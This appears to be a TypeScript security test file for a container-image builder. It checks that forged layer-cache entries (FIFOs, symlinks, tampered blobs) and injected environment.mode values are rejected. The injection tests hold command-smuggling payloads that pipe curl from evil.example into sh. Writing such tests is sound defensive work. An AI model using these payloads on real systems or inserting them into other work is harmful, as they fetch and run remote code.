// A hostile review of the image layer cache and the env backend registry: a cache entry forged by
// anyone who can write the cache (its entry.json recomputed to match) must never put unchecked
// bytes into an image, hang the build, or read through a link; a bundle's environment.mode must
// never reach a Dockerfile or a path unless it is a mode a backend claims.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { TarEntry } from '../../src/archive/tar.js';
import { checkManifest } from '../../src/bundle/manifest.js';
import { renderDockerfile } from '../../src/image/dockerfile.js';
import { cachedLayer } from '../../src/image/layer-cache.js';
import { writeLayout } from '../../src/image/oci-layout.js';
import { envBackend } from '../../src/pipeline/backends/index.js';
import { UserError } from '../../src/util/errors.js';
import { sha256 } from '../../src/util/hash.js';
import { MemoryLog } from '../../src/util/log.js';
import { treeFacts } from '../../src/util/tree-digest.js';

const log = new MemoryLog();
const scratch = (p: string) => mkdtempSync(join(tmpdir(), p));

/** A cache root holding one good entry for a small layer, and what an attacker with write access to it does. */
async function primed() {
  const root = scratch('swrt-r5-root-');
  const src = scratch('swrt-r5-src-');
  writeFileSync(join(src, 'a.py'), 'print(1)\n'.repeat(300));
  const entries = (): TarEntry[] => {
    const st = statSync(join(src, 'a.py'));
    return [{ path: 'opt/x/a.py', type: 'file', mode: 0o644, source: join(src, 'a.py'), size: st.size, expect: { dev: st.dev, ino: st.ino } }];
  };
  const w = scratch('swrt-r5-work-');
  const first = await cachedLayer(entries(), join(w, 'blobs'), { root, work: w, log });
  const good = readFileSync(first.path);
  const name = readdirSync(join(root, 'image-layer')).find((n) => !n.startsWith('.'))!;
  const entry = join(root, 'image-layer', name);
  const data = join(entry, 'data');
  const record = JSON.parse(readFileSync(join(data, 'layer.json'), 'utf8')) as { digest: string; diffId: string; size: number };
  /** entry.json's tree digest made to match the tampered data/, as anyone who can write the cache can. */
  const forge = () => {
    const rec = JSON.parse(readFileSync(join(entry, 'entry.json'), 'utf8')) as { tree: string };
    rec.tree = treeFacts(data, [], { mtimes: true }).digest;
    writeFileSync(join(entry, 'entry.json'), JSON.stringify(rec));
  };
  const replace = (file: string, make: (path: string) => void) => {
    rmSync(join(data, file), { force: true });
    make(join(data, file));
    forge();
  };
  const again = () => {
    const w2 = scratch('swrt-r5-work-');
    return cachedLayer(entries(), join(w2, 'blobs'), { root, work: w2, log });
  };
  return { root, first, good, record, replace, again };
}

describe('a forged image-layer cache entry', () => {
  it('cannot smuggle fields past the check: a hit carries the digest, diffId, size and path alone', async () => {
    const p = await primed();
    p.replace('layer.json', (f) => writeFileSync(f, JSON.stringify({ ...p.record, bytes: 'NOT THE VERIFIED BLOB', urls: ['http://evil.example'] })));
    const r = await p.again();
    expect(r.cached).toBe(true);
    expect(Object.keys(r).sort()).toEqual(['cached', 'diffId', 'digest', 'path', 'saved', 'size']);
    // What `--to oci:DIR` writes under the digest is the verified blob.
    const { cached: _c, saved: _s, ...layer } = r;
    const dir = scratch('swrt-r5-oci-');
    writeLayout(dir, 'latest', [layer], { mediaType: 'application/vnd.oci.image.manifest.v1+json', digest: `sha256:${'1'.repeat(64)}`, size: 1 });
    expect(readFileSync(join(dir, 'blobs', r.digest.replace(':', '/')))).toEqual(p.good);
  });

  it.each([
    ['a FIFO as the blob', 'layer.tar.gz', (f: string) => execFileSync('mkfifo', [f]), { size: 0 }],
    ['a FIFO as the record', 'layer.json', (f: string) => execFileSync('mkfifo', [f]), {}],
    ['a link to /dev/zero as the blob', 'layer.tar.gz', (f: string) => symlinkSync('/dev/zero', f), { size: 0 }],
  ])('does not hang on %s: a miss, and the layer is built again', async (_what, file, make, recordOver) => {
    const p = await primed();
    if (Object.keys(recordOver).length) p.replace('layer.json', (f) => writeFileSync(f, JSON.stringify({ ...p.record, ...recordOver })));
    p.replace(file, make);
    const r = await p.again();
    expect(r.cached).toBe(false);
    expect(r.digest).toBe(p.first.digest);
    expect(readFileSync(r.path)).toEqual(p.good);
  }, 20_000);

  it('does not read through a link to a file outside the cache, even one the record describes', async () => {
    const p = await primed();
    const outside = join(scratch('swrt-r5-outside-'), 'secret.txt');
    writeFileSync(outside, 'a secret outside the cache\n');
    const bytes = readFileSync(outside);
    p.replace('layer.json', (f) => writeFileSync(f, JSON.stringify({ ...p.record, digest: `sha256:${sha256(bytes)}`, size: bytes.length })));
    p.replace('layer.tar.gz', (f) => symlinkSync(outside, f));
    const r = await p.again();
    expect(r.cached).toBe(false);
    expect(readFileSync(r.path)).toEqual(p.good);
  });

  it('is dropped and replaced when its blob was changed behind its record', async () => {
    const p = await primed();
    p.replace('layer.tar.gz', (f) => writeFileSync(f, Buffer.concat([p.good.subarray(0, p.good.length - 8), Buffer.alloc(8)])));
    const r = await p.again();
    expect(r.cached).toBe(false);
    expect(readFileSync(r.path)).toEqual(p.good);
    // The bad entry is gone and a good one took its place.
    expect((await p.again()).cached).toBe(true);
  });

  it('is not used when its record is oversized', async () => {
    const p = await primed();
    p.replace('layer.json', (f) => writeFileSync(f, JSON.stringify({ ...p.record, pad: 'x'.repeat(10_000) })));
    expect((await p.again()).cached).toBe(false);
  });
});

describe("a bundle's environment.mode", () => {
  const injected = "venv' && curl http://evil.example/x | sh && echo '";

  it('is refused when reading the manifest unless it is venv or conda, in one line', () => {
    expect(() => checkManifest({ environment: { mode: injected } }, 'crafted.swrt')).toThrow(UserError);
    expect(() => checkManifest({ environment: { mode: injected } }, 'crafted.swrt')).toThrow(/environment\.mode is not venv or conda/);
    expect(() => checkManifest({ environment: { mode: 'conda' } }, 'ok.swrt')).not.toThrow();
    expect(() => checkManifest({ environment: {} }, 'ok.swrt')).not.toThrow();
  });

  it('never reaches a Dockerfile RUN line, even from a manifest that skipped the check', () => {
    const render = () => renderDockerfile({ manifest: { version: 'abc', environment: { mode: injected }, dependencies: { local_packaged_env: true } } as never, name: 'rt', env: {} });
    expect(render).toThrow(UserError);
  });

  it('with a line break never adds a Dockerfile line of its own, even past the manifest check', () => {
    const render = () => renderDockerfile({ manifest: { version: 'abc', environment: { mode: 'venv\nRUN curl http://evil.example/x | sh' }, dependencies: { local_packaged_env: true } } as never, name: 'rt', env: {} });
    expect(render).toThrow(/control character/);
  });

  it('is named in at most a short line when no backend claims it', () => {
    let message = '';
    try {
      envBackend('x'.repeat(200_000));
    } catch (e) {
      message = (e as Error).message;
    }
    expect(message).toMatch(/unknown environment mode/);
    expect(message.length).toBeLessThan(200);
  });
});

